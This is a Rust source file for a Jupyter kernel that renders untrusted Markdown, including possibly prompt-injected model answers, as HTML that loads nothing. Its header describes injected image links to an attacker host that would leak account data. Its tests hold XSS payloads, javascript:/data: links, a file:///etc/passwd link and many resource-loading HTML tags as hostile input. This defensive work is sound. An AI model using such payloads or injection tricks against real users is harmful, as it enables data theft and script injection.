//! Markdown from outside the kernel (model answers, advice, anything that can echo
//! attacker-chosen finding text) to HTML that cannot make the browser load anything.
//!
//! A prompt-injected answer can carry `![x](https://attacker/?acct=...)`, raw
//! `<img>`/`<iframe>`/`<link>`, CSS `url()` and the like; any of them would send data
//! out as soon as the cell shows. So the renderer writes only a fixed allow-list of
//! tags itself, with no attributes but `href` on http(s) links (plus a numeric list
//! start and fixed table alignments). Raw HTML becomes escaped text, images become
//! text naming their alt text and URL, and every link shows its full target.
//!
//! The same rule covers the `text/markdown` MIME type, which JupyterLab renders
//! itself (images included): that form can only be built as [`SafeMarkdown`].

use pulldown_cmark::{Alignment, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd};

use super::html;

/// How a link ends: a web link closes its `<a>`; any link whose text differs from
/// its target then shows the target, so a human sees where it goes.
struct OpenLink {
    url: String,
    web: bool,
    /// The visible text, to tell whether it already is the target.
    text: String,
}

/// Everything the renderer is inside of that changes how later events are written.
#[derive(Default)]
struct Writer {
    out: String,
    links: Vec<OpenLink>,
    /// Depth of images being read (alt text may itself hold images), with the
    /// outermost image's target and alt text so far.
    image_depth: usize,
    image: Option<(String, String)>,
    table_alignments: Vec<Alignment>,
    table_column: usize,
    in_table_head: bool,
}

impl Writer {
    /// Text the reader sees: escaped, and remembered as link or alt text.
    fn text(&mut self, s: &str) {
        if let Some((_, alt)) = self.image.as_mut() {
            alt.push_str(s);
            return;
        }
        for link in &mut self.links {
            link.text.push_str(s);
        }
        self.out.push_str(&html::text(s));
    }

    fn tag(&mut self, markup: &str) {
        if self.image.is_none() {
            self.out.push_str(markup);
        }
    }

    fn start(&mut self, tag: Tag) {
        if self.image.is_some() {
            if let Tag::Image { .. } = tag {
                self.image_depth += 1;
            }
            return;
        }
        match tag {
            Tag::Paragraph | Tag::HtmlBlock => self.tag("<p>"),
            Tag::Heading { level, .. } => self.tag(&format!("<h{}>", heading_number(level))),
            Tag::BlockQuote(_) => self.tag("<blockquote>"),
            Tag::CodeBlock(_) => self.tag("<pre><code>"),
            Tag::List(Some(start)) if start != 1 => self.tag(&format!("<ol start=\"{start}\">")),
            Tag::List(Some(_)) => self.tag("<ol>"),
            Tag::List(None) => self.tag("<ul>"),
            Tag::Item => self.tag("<li>"),
            Tag::DefinitionList => self.tag("<dl>"),
            Tag::DefinitionListTitle => self.tag("<dt>"),
            Tag::DefinitionListDefinition => self.tag("<dd>"),
            Tag::Table(alignments) => {
                self.table_alignments = alignments;
                self.tag("<table>");
            }
            Tag::TableHead => {
                self.in_table_head = true;
                self.table_column = 0;
                self.tag("<thead><tr>");
            }
            Tag::TableRow => {
                self.table_column = 0;
                self.tag("<tr>");
            }
            Tag::TableCell => {
                let cell = if self.in_table_head { "th" } else { "td" };
                let align = match self.table_alignments.get(self.table_column) {
                    Some(Alignment::Left) => " style=\"text-align:left\"",
                    Some(Alignment::Center) => " style=\"text-align:center\"",
                    Some(Alignment::Right) => " style=\"text-align:right\"",
                    Some(Alignment::None) | None => "",
                };
                self.tag(&format!("<{cell}{align}>"));
            }
            Tag::Emphasis => self.tag("<em>"),
            Tag::Strong => self.tag("<strong>"),
            Tag::Strikethrough => self.tag("<del>"),
            Tag::Superscript => self.tag("<sup>"),
            Tag::Subscript => self.tag("<sub>"),
            Tag::Link {
                link_type,
                dest_url,
                ..
            } => {
                let url = match link_type {
                    LinkType::Email => format!("mailto:{dest_url}"),
                    _ => dest_url.to_string(),
                };
                let web = html::is_web_url(&url);
                if web {
                    self.tag(&html::anchor_open(&url));
                }
                self.links.push(OpenLink {
                    url,
                    web,
                    text: String::new(),
                });
            }
            Tag::Image { dest_url, .. } => {
                self.image_depth = 1;
                self.image = Some((dest_url.to_string(), String::new()));
            }
            // Footnotes and metadata are not enabled; their text still shows.
            Tag::FootnoteDefinition(_) | Tag::MetadataBlock(_) => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        if self.image.is_some() {
            if tag == TagEnd::Image {
                self.image_depth -= 1;
                if self.image_depth == 0 {
                    self.end_image();
                }
            }
            return;
        }
        match tag {
            TagEnd::Paragraph | TagEnd::HtmlBlock => self.tag("</p>"),
            TagEnd::Heading(level) => self.tag(&format!("</h{}>", heading_number(level))),
            TagEnd::BlockQuote(_) => self.tag("</blockquote>"),
            TagEnd::CodeBlock => self.tag("</code></pre>"),
            TagEnd::List(true) => self.tag("</ol>"),
            TagEnd::List(false) => self.tag("</ul>"),
            TagEnd::Item => self.tag("</li>"),
            TagEnd::DefinitionList => self.tag("</dl>"),
            TagEnd::DefinitionListTitle => self.tag("</dt>"),
            TagEnd::DefinitionListDefinition => self.tag("</dd>"),
            TagEnd::Table => self.tag("</tbody></table>"),
            TagEnd::TableHead => {
                self.in_table_head = false;
                self.tag("</tr></thead><tbody>");
            }
            TagEnd::TableRow => self.tag("</tr>"),
            TagEnd::TableCell => {
                self.tag(if self.in_table_head { "</th>" } else { "</td>" });
                self.table_column += 1;
            }
            TagEnd::Emphasis => self.tag("</em>"),
            TagEnd::Strong => self.tag("</strong>"),
            TagEnd::Strikethrough => self.tag("</del>"),
            TagEnd::Superscript => self.tag("</sup>"),
            TagEnd::Subscript => self.tag("</sub>"),
            TagEnd::Link => {
                if let Some(link) = self.links.pop() {
                    if link.web {
                        self.tag("</a>");
                    }
                    if link.text.trim() != link.url.trim() {
                        self.text(&format!(" ({})", link.url));
                    }
                }
            }
            TagEnd::Image => {}
            TagEnd::FootnoteDefinition | TagEnd::MetadataBlock(_) => {}
        }
    }

    /// An image is never loaded: it shows as text with its alt text and target.
    fn end_image(&mut self) {
        if let Some((url, alt)) = self.image.take() {
            let alt = alt.trim();
            let shown = if alt.is_empty() {
                format!("[image: {url}]")
            } else {
                format!("[image: {alt} ({url})]")
            };
            self.text(&shown);
        }
    }
}

fn heading_number(level: HeadingLevel) -> u8 {
    level as u8
}

/// Model-written (or any outside) Markdown as HTML that loads nothing on render.
pub fn to_html(markdown: &str) -> String {
    let parser = Parser::new_ext(
        markdown,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    let mut w = Writer::default();
    for event in parser {
        match event {
            Event::Start(tag) => w.start(tag),
            Event::End(tag) => w.end(tag),
            Event::Text(s) | Event::Html(s) | Event::InlineHtml(s) => w.text(&s),
            Event::Code(s) => {
                w.tag("<code>");
                w.text(&s);
                w.tag("</code>");
            }
            Event::InlineMath(s) | Event::DisplayMath(s) => w.text(&s),
            Event::FootnoteReference(name) => w.text(&format!("[^{name}]")),
            Event::SoftBreak => w.text("\n"),
            Event::HardBreak => w.tag("<br>"),
            Event::Rule => w.tag("<hr>"),
            Event::TaskListMarker(done) => w.text(if done { "[x] " } else { "[ ] " }),
        }
    }
    // An unclosed image at the end of a streamed answer still shows what it had.
    w.end_image();
    w.out
}

/// Markdown for the `text/markdown` MIME type. JupyterLab renders that form itself,
/// images and raw HTML included, so it can only hold text with every ASCII
/// punctuation mark backslash-escaped, and emphasis the kernel adds itself.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SafeMarkdown(String);

impl SafeMarkdown {
    pub fn new() -> SafeMarkdown {
        SafeMarkdown::default()
    }

    /// Text shown as written: no character in it can start markup.
    pub fn push_text(&mut self, s: &str) -> &mut SafeMarkdown {
        for c in s.chars() {
            if c.is_ascii_punctuation() {
                self.0.push('\\');
            }
            self.0.push(c);
        }
        self
    }

    pub fn push_strong(&mut self, s: &str) -> &mut SafeMarkdown {
        self.0.push_str("**");
        self.push_text(s);
        self.0.push_str("**");
        self
    }

    pub fn push_paragraph_break(&mut self) -> &mut SafeMarkdown {
        self.0.push_str("\n\n");
        self
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl std::ops::Deref for SafeMarkdown {
    type Target = str;

    fn deref(&self) -> &str {
        &self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every tag in the output is one the renderer writes itself, and the only
    /// attributes are an http(s) href, a list start and fixed alignments; text
    /// `<` is always escaped, so each raw `<` starts one of these tags.
    fn assert_loads_nothing(html: &str) {
        const TAGS: &[&str] = &[
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "blockquote",
            "pre",
            "code",
            "ol",
            "ul",
            "li",
            "dl",
            "dt",
            "dd",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "em",
            "strong",
            "del",
            "sup",
            "sub",
            "a",
            "br",
            "hr",
        ];
        for (i, _) in html.match_indices('<') {
            let end = html[i..].find('>').map_or(html.len(), |e| i + e);
            let tag = &html[i + 1..end];
            let tag = tag.strip_prefix('/').unwrap_or(tag);
            let (name, attrs) = tag.split_once(' ').unwrap_or((tag, ""));
            assert!(TAGS.contains(&name), "tag <{name}> in {html}");
            let allowed = attrs.is_empty()
                || (name == "a"
                    && (attrs.starts_with("href=\"https://")
                        || attrs.starts_with("href=\"http://")
                        || attrs.starts_with("href=\"HTTP")))
                || (name == "ol"
                    && attrs
                        .trim_start_matches("start=\"")
                        .trim_end_matches('"')
                        .parse::<u64>()
                        .is_ok())
                || (matches!(name, "th" | "td")
                    && [
                        "style=\"text-align:left\"",
                        "style=\"text-align:center\"",
                        "style=\"text-align:right\"",
                    ]
                    .contains(&attrs));
            assert!(allowed, "attributes {attrs:?} on <{name}> in {html}");
            assert!(
                !attrs.contains('"') || attrs.matches('"').count() == 2,
                "one attribute only: {tag}"
            );
        }
    }

    #[test]
    fn raw_html_becomes_text() {
        let html =
            to_html("Hello <img src=x onerror=alert(1)> and <script>alert(1)</script>\n\n**bold**");
        assert_loads_nothing(&html);
        assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
        assert!(html.contains("<strong>bold</strong>"));
    }

    #[test]
    fn images_become_text_with_alt_and_target() {
        let html = to_html(
            "![status](https://attacker.example/p.png?acct=222222222222) and ![](http://x.example/a.gif) and ![a ![nested](https://n.example/i.png) b](https://outer.example/o.png)",
        );
        assert_loads_nothing(&html);
        assert!(
            html.contains("[image: status (https://attacker.example/p.png?acct=222222222222)]"),
            "{html}"
        );
        assert!(html.contains("[image: http://x.example/a.gif]"), "{html}");
        assert!(html.contains("(https://outer.example/o.png)"), "{html}");
        // A reference-style image and one inside a link are text too.
        let html = to_html(
            "![x][r] [![badge](https://b.example/b.svg)](https://docs.aws.amazon.com/)\n\n[r]: https://ref.example/r.png",
        );
        assert_loads_nothing(&html);
        assert!(
            html.contains("[image: x (https://ref.example/r.png)]"),
            "{html}"
        );
        assert!(
            html.contains("<a href=\"https://docs.aws.amazon.com/\">"),
            "{html}"
        );
        // A streamed answer cut inside an image still shows it as text.
        assert_loads_nothing(&to_html("see ![status](https://attacker.example/p.png"));
    }

    #[test]
    fn every_element_that_loads_is_text() {
        let hostile = r#"<iframe src="https://a.example/f"></iframe>
<frame src="https://a.example/fr"><object data="https://a.example/o"></object><embed src="https://a.example/e">
<video poster="https://a.example/p.png" src="https://a.example/v.mp4"><source src="https://a.example/s.mp4"><track src="https://a.example/t.vtt"></video>
<audio src="https://a.example/a.mp3"></audio>
<picture><source srcset="https://a.example/s.png 1x"><img srcset="https://a.example/i.png 2x"></picture>
<link rel="stylesheet" href="https://a.example/s.css">
<style>@import url("https://a.example/i.css"); body { background: url(https://a.example/b.png) }</style>
<div style="background-image:url(https://a.example/d.png)">x</div>
<svg><image href="https://a.example/svg.png"/><use href="https://a.example/u.svg#x"/></svg>
<table background="https://a.example/t.png"><tr><td>x</td></tr></table>
<meta http-equiv="refresh" content="0;url=https://a.example/m">
<base href="https://a.example/">
<form action="https://a.example/f"><input type="image" src="https://a.example/i.png"></form>

Inline <img src="https://a.example/inline.png"> and <span style="background:url(https://a.example/s.png)">s</span>.
"#;
        let html = to_html(hostile);
        assert_loads_nothing(&html);
        assert!(html.contains("&lt;iframe"));
    }

    #[test]
    fn web_links_show_their_full_target_and_other_schemes_are_text() {
        let html = to_html(
            "[docs](https://docs.aws.amazon.com/x?a=1&b=2) [HTTP](HTTP://Example.com/) <https://auto.example/a> https://bare.example/ [a](javascript:alert(1)) [b](data:text/html,<script>x</script>) [c](file:///etc/passwd) <me@example.com> [d](//evil.example/x)",
        );
        assert_loads_nothing(&html);
        assert!(html.contains(
            "<a href=\"https://docs.aws.amazon.com/x?a=1&amp;b=2\">docs</a> (https://docs.aws.amazon.com/x?a=1&amp;b=2)"
        ), "{html}");
        assert!(
            html.contains("<a href=\"HTTP://Example.com/\">HTTP</a>"),
            "{html}"
        );
        // An autolink's text is its target, shown once.
        assert!(
            html.contains("<a href=\"https://auto.example/a\">https://auto.example/a</a> "),
            "{html}"
        );
        assert_eq!(html.matches("<a ").count(), 3, "{html}");
        for text in [
            "a (javascript:alert(1))",
            "c (file:///etc/passwd)",
            "me@example.com (mailto:me@example.com)",
            "d (//evil.example/x)",
        ] {
            assert!(html.contains(text), "{text} in {html}");
        }
        assert!(!html.contains("href=\"javascript") && !html.contains("href=\"data"));
    }

    #[test]
    fn ordinary_markdown_keeps_its_shape() {
        let html = to_html(
            "### Next steps\n\n3. Revoke it\n4. Check\n\n- a\n- `code`\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```\n<b>x</b>\n```\n\n> quote ~~old~~ *em*\n\n---\nline  \nbreak",
        );
        assert_loads_nothing(&html);
        for part in [
            "<h3>Next steps</h3>",
            "<ol start=\"3\"><li>Revoke it</li>",
            "<ul><li>a</li><li><code>code</code></li></ul>",
            "<th style=\"text-align:left\">a</th><th style=\"text-align:right\">b</th>",
            "<td style=\"text-align:left\">1</td>",
            "<pre><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>",
            "<blockquote><p>quote <del>old</del> <em>em</em></p></blockquote>",
            "<hr>",
            "line<br>break",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
    }

    #[test]
    fn arbitrary_mixes_of_markup_load_nothing() {
        // Markdown and HTML pieces glued in pseudo-random orders (a fixed seed, so
        // a failure reproduces): whatever the parser makes of them, the output holds
        // only the renderer's own tags.
        const PIECES: &[&str] = &[
            "![",
            "[",
            "]",
            "(",
            ")",
            "](",
            "https://a.example/p.png",
            "javascript:x",
            "<",
            ">",
            "<img src=",
            "<iframe src=",
            " srcset=",
            "\"",
            "'",
            "`",
            "```\n",
            "\n",
            "\n\n",
            "|",
            "|-|",
            "-",
            "*",
            "_",
            "#",
            "1. ",
            "> ",
            "\\",
            "&lt;",
            "&#60;",
            "url(",
            "<https://a/>",
            "[r]: https://a.example/r.png\n",
            "![r]",
            "<!--",
            "-->",
            "<![CDATA[",
            "    ",
            "~~",
            "&",
            "<a href=",
            "<svg><image href=",
            "<style>",
            "<link rel=stylesheet href=",
            "\u{0}",
        ];
        let mut seed: u64 = 0x5eed;
        for _ in 0..3000 {
            let mut text = String::new();
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let len = 1 + (seed >> 33) % 40;
            for _ in 0..len {
                seed = seed
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                text.push_str(PIECES[(seed >> 33) as usize % PIECES.len()]);
            }
            assert_loads_nothing(&to_html(&text));
            let mut md = SafeMarkdown::new();
            md.push_text(&text);
            assert_loads_nothing(&to_html(&md));
        }
    }

    #[test]
    fn safe_markdown_escapes_every_markup_character() {
        let mut md = SafeMarkdown::new();
        md.push_strong("HIGH")
            .push_text(" 3 ![x](https://a.example/p.png) <img src=x> www.example.com a@b.co &amp;");
        assert_eq!(
            md.as_str(),
            "**HIGH** 3 \\!\\[x\\]\\(https\\:\\/\\/a\\.example\\/p\\.png\\) \\<img src\\=x\\> www\\.example\\.com a\\@b\\.co \\&amp\\;"
        );
        // Rendered as Markdown, it is the same text and nothing else.
        let html = to_html(&md);
        assert_loads_nothing(&html);
        assert!(
            html.contains("![x](https://a.example/p.png) &lt;img src=x&gt;"),
            "{html}"
        );
    }
}
